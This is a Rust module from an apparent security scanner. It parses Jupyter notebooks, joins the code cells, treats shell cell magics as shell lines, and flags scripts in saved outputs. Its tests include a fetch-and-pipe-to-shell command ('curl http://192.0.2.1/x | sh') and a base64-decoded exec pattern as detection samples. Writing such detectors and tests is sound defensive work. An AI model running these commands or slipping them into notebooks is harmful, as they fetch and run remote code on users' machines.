//! Jupyter notebooks: cells of code and what they showed.
//!
//! A notebook is JSON. Nothing in it runs when it is opened; a person runs its
//! cells one after the other, so the cells of Python are judged together as one
//! program ([`detect::python`](crate::detect::python)), with lines that begin
//! with `!` or `%` as the shell commands that they are. Outputs that were saved
//! may hold HTML with scripts, which a trusting viewer runs.
//!
//! An attacker puts a command among many cells, in a cell magic, or in the
//! output of a cell, where nobody looks for code.
//!
//! Not checked: what stands in the spec below.

use super::manifest::trail::{Step, Trail, last_key};
use super::python::{self, Role, Text};
use super::text::looks_like_text;
use super::{Artifact, Claim, Content, Context, Format, FormatSpec, Kind, Probe};
use crate::detect::python::{Dialect, judge};
use crate::report::{Span, Why};
use crate::rules::python::OUTPUT_SCRIPT;
use crate::wire::Fault;
use crate::wire::json::{Event, Reader, Token};

/// Bytes of code that are kept of one notebook.
const CODE_CAP_BYTES: usize = 4 << 20;

/// Cells that are told apart.
const CELLS_CAP: usize = 1 << 16;

/// Cell magics whose cell is no Python.
const OTHER: &[&str] = &[
    "%%bash",
    "%%cmd",
    "%%html",
    "%%javascript",
    "%%js",
    "%%latex",
    "%%markdown",
    "%%perl",
    "%%R",
    "%%ruby",
    "%%script",
    "%%sh",
    "%%sql",
    "%%svg",
    "%%writefile",
    "%%file",
    "%%cython",
];

/// Of these, those that hand the cell to a shell.
const SHELLS: &[&str] = &["%%bash", "%%cmd", "%%script", "%%sh"];

/// Jupyter notebook.
pub struct Notebook;

static SPEC: FormatSpec = FormatSpec {
    id: "notebook",
    title: "Jupyter notebook",
    suffixes: &[".ipynb"],
    runs_code: true,
    content: Content::Data,
    layer_of: Some("source-code"),
    references: &["https://nbformat.readthedocs.io/en/latest/format_description.html"],
    limitations: &[
        "Cells of other languages than Python and the shell are not followed.",
        "Cells are read in their order in the file, in which nobody need run them.",
    ],
};

impl Format for Notebook {
    fn spec(&self) -> &'static FormatSpec {
        &SPEC
    }

    fn kind(&self) -> Kind {
        Kind::Text
    }

    fn recognise(&self, probe: &Probe<'_>) -> Claim {
        let head = probe.head();
        let begins = head.trim_ascii_start().starts_with(b"{");
        let has = |key: &[u8]| memchr::memmem::find(head, key).is_some();
        match probe.has_suffix(SPEC.suffixes) {
            true if begins && looks_like_text(head) => Claim::Structure,
            false if begins && has(b"\"cells\"") && has(b"\"cell_type\"") => Claim::Structure,
            _ => Claim::No,
        }
    }

    fn examine(&self, artifact: &Artifact, cx: &mut Context<'_>) -> Result<(), Fault> {
        let source = artifact.source.as_ref();
        let mut reader = Reader::new(source, 0..source.len());
        let mut trail = Trail::default();
        let mut cells = Cells::default();
        let ended = loop {
            cx.tick()?;
            match reader.next() {
                Ok(Some(event)) => {
                    trail.see(&event);
                    cells.see(trail.steps(), &event, cx);
                }
                Ok(None) => break Ok(()),
                Err(fault) => break Err(fault),
            }
        };
        cells.close();
        cells.finish(cx)?;
        ended
    }
}

/// The code of a notebook, cell behind cell.
#[derive(Default)]
struct Cells {
    code: String,
    /// Where the code of each cell begins, its number, and its place.
    starts: Vec<(usize, usize, Span)>,
    /// The cell at hand.
    number: Option<usize>,
    is_code: bool,
    text: String,
    span: Option<Span>,
    is_cut: bool,
}

impl Cells {
    fn see(&mut self, steps: &[Step], event: &Event<'_>, cx: &mut Context<'_>) {
        let (Some(Step::Key(cells)), Some(Step::Index(number))) = (steps.first(), steps.get(1))
        else {
            return;
        };
        if cells != "cells" {
            return;
        }
        if self.number != Some(*number) {
            self.close();
            self.number = Some(*number);
        }
        let Token::String(value) = event.token else {
            return;
        };
        match steps.get(2..).unwrap_or_default() {
            [Step::Key(key)] if key == "cell_type" => self.is_code = value.value == "code",
            [Step::Key(key)] | [Step::Key(key), Step::Index(_)]
                if key == "source" || key == "input" =>
            {
                self.source(value.value, value.is_cut(), &event.span);
            }
            [Step::Key(key), ..] if key == "outputs" => output(steps, value.value, &event.span, cx),
            _ => {}
        }
    }

    fn source(&mut self, text: &str, is_cut: bool, span: &Span) {
        let room = CODE_CAP_BYTES
            .saturating_sub(self.code.len())
            .saturating_sub(self.text.len());
        if is_cut || text.len() > room {
            self.is_cut = true;
            return;
        }
        self.text.push_str(text);
        let begun = self.span.get_or_insert_with(|| span.clone());
        begun.end = span.end;
    }

    /// The cell at hand is over.
    fn close(&mut self) {
        let text = std::mem::take(&mut self.text);
        let (is_code, span) = (std::mem::take(&mut self.is_code), self.span.take());
        let (Some(span), Some(number), true) = (span, self.number, is_code) else {
            return;
        };
        if self.starts.len() >= CELLS_CAP {
            self.is_cut = true;
            return;
        }
        self.starts
            .push((self.code.len(), number.saturating_add(1), span));
        let first = text
            .lines()
            .map(str::trim)
            .find(|line| !line.is_empty())
            .unwrap_or_default();
        let magic = first.split_ascii_whitespace().next().unwrap_or_default();
        if SHELLS.contains(&magic) {
            for line in text.lines().skip_while(|line| line.trim() != first).skip(1) {
                let line = line.trim();
                if !line.is_empty() && !line.starts_with('#') {
                    self.code.push('!');
                    self.code.push_str(line.trim_end_matches('\\'));
                    self.code.push('\n');
                }
            }
        } else if !OTHER.contains(&magic) {
            // A magic such as `%%time` stands before ordinary code.
            let text = if magic.starts_with("%%") {
                text.split_once('\n').map_or("", |(_, rest)| rest)
            } else {
                &text
            };
            self.code.push_str(text);
            self.code.push('\n');
        }
    }

    fn finish(self, cx: &mut Context<'_>) -> Result<(), Fault> {
        if self.is_cut {
            let detail =
                format!("only the first {CODE_CAP_BYTES} bytes of code in the cells are judged");
            cx.gap(crate::report::Place::whole(), Why::Limit, detail);
        }
        let program = judge(&self.code, Dialect::Notebook, cx.budget())?;
        let cell = |at: usize| {
            let behind = self.starts.partition_point(|(start, ..)| *start <= at);
            behind
                .checked_sub(1)
                .and_then(|index| self.starts.get(index))
        };
        let place = |at: usize, _: usize| cell(at).map_or(0..0, |(.., span)| span.clone());
        let label = |at: usize| {
            cell(at).map_or_else(String::new, |(_, number, _)| format!("cell {number}"))
        };
        let text = Text {
            text: &self.code,
            role: Role::Notebook,
            label: Some(&label),
            place: &place,
        };
        python::report(&program, &text, cx);
        // Cells of notebooks are often unfinished: what is no Python was read
        // by its words, and nobody can run it.
        for what in &program.limits {
            let detail = format!("not all {what} of the cells were followed");
            cx.gap(crate::report::Place::whole(), Why::Limit, detail);
        }
        Ok(())
    }
}

/// What a cell showed: HTML that runs something is told.
fn output(steps: &[Step], text: &str, span: &Span, cx: &mut Context<'_>) {
    let kind = steps.iter().find_map(|step| match step {
        Step::Key(key) if key.contains('/') => Some(key.as_str()),
        _ => None,
    });
    let kind = kind.unwrap_or_else(|| last_key(steps));
    let runs = match kind {
        "application/javascript" => true,
        "text/html" => text.to_ascii_lowercase().contains("<script"),
        _ => false,
    };
    if runs {
        let message = format!("the saved output of a cell holds a script (`{kind}`)");
        cx.report(OUTPUT_SCRIPT.at(span.clone()).message(message));
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{Said, examine, mangle, recognise};
    use super::*;
    use crate::report::Severity;

    fn notebook(cells: &[&str]) -> String {
        let cells: Vec<String> = cells
            .iter()
            .map(|cell| format!(r#"{{"cell_type": "code", "metadata": {{}}, "outputs": [], "source": [{cell}]}}"#))
            .collect();
        format!(
            r#"{{"cells": [{}], "metadata": {{}}, "nbformat": 4, "nbformat_minor": 5}}"#,
            cells.join(", ")
        )
    }

    fn said(cells: &[&str]) -> Said {
        examine(&Notebook, "a.ipynb", notebook(cells))
    }

    #[test]
    fn a_tutorial_is_clean() {
        let clean = said(&[
            r#""%matplotlib inline\n", "import torch""#,
            r#""%%time\n", "model.eval()\n", "?model""#,
            r#""%%html\n", "<b>x</b>""#,
        ]);
        assert!(clean.is_clean(), "{clean:?}");
        let pip = said(&[r#""!pip install torch\n""#]);
        assert_eq!(pip.severity("python-capable-code"), Severity::Info);
    }

    #[test]
    fn cells_are_one_program() {
        let bad = said(&[
            r#""import base64 as b\n""#,
            r#""x = 1\n", "exec(b.b64decode(x))""#,
        ]);
        assert_eq!(bad.severity("python-hidden-code"), Severity::Critical);
        assert!(bad.findings[0].message.contains("cell 2"), "{bad:?}");
        let shell = said(&[r#""%%bash\n", "curl http://192.0.2.1/x | sh""#]);
        assert_eq!(shell.severity("python-runs-command"), Severity::High);
        let line = said(&[r#""!curl http://192.0.2.1/x | sh""#]);
        assert_eq!(line.severity("python-runs-command"), Severity::High);
    }

    #[test]
    fn scripts_in_outputs_are_told() {
        let text = r#"{"cells": [{"cell_type": "code", "source": "x", "outputs": [{"data": {"text/html": ["<div>", "<script>f()</script>"]}}]}]}"#;
        assert_eq!(
            examine(&Notebook, "a.ipynb", text).severity("notebook-output-script"),
            Severity::Info
        );
        assert_eq!(recognise(&Notebook, "a.ipynb", text), Claim::Structure);
        assert_eq!(recognise(&Notebook, "a.json", text), Claim::Structure);
        assert_eq!(recognise(&Notebook, "a.json", "{}"), Claim::No);
        mangle(
            &Notebook,
            "a.ipynb",
            notebook(&[r#""!id\n", "exec(x)""#]).as_bytes(),
        );
    }
}
